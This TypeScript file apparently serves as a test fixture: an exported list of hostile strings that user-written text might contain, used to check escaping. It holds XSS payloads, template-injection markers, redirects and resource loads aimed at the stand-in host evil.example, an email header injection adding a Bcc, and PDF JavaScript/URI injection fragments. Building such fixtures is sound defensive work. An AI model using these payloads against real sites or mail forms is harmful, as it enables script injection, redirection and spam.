/**
 * Texts that hosts and buyers might write. Each would set `ran`, open a dialog, send a request to evil.example or leave the page in
 * its own way, if it were anything but text.
 */
export const HOSTILE_TEXTS = [
  '<script>parent.ran=ran=1</script>',
  '<img src=x onerror="ran=1">',
  '"><svg onload=ran=1>',
  "'-ran=1-'",
  '</script><script>ran=1</script>',
  '</title></style></textarea><iframe srcdoc="<script>top.ran=1</script>">',
  'javascript:ran=1',
  '<a href="javascript:ran=1">press</a>',
  '${ran=1}{{ran=1}}<%ran=1%>',
  '<!--<script>ran=1//-->',
  '<style>@import"data:text/css,*{}"</style><base href="//evil.example/">',
  '\u2028\u2029\u202e',
  '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
  '<link rel="stylesheet" href="http://evil.example/a.css">',
  '<form action="http://evil.example/"><input autofocus onfocus="ran=1"></form>',
  '<img src="http://evil.example/a.png"><video src="http://evil.example/a.mp4">',
  '" style="background:url(http://evil.example/a.png)" onmouseover="ran=1',
  '<object data="http://evil.example/"></object><embed src="http://evil.example/">',
  '<a href="http://evil.example/">press</a>',
  '\r\nBcc: eve@evil.example\r\nContent-Type: text/html\r\n\r\n<script>ran=1</script>',
  ') >> /OpenAction << /S /JavaScript /JS (app.alert(1)) >> << /A (',
  'endstream endobj 1 0 obj << /AA << /O << /S /URI /URI (http://evil.example/) >> >> >>',
] as const;
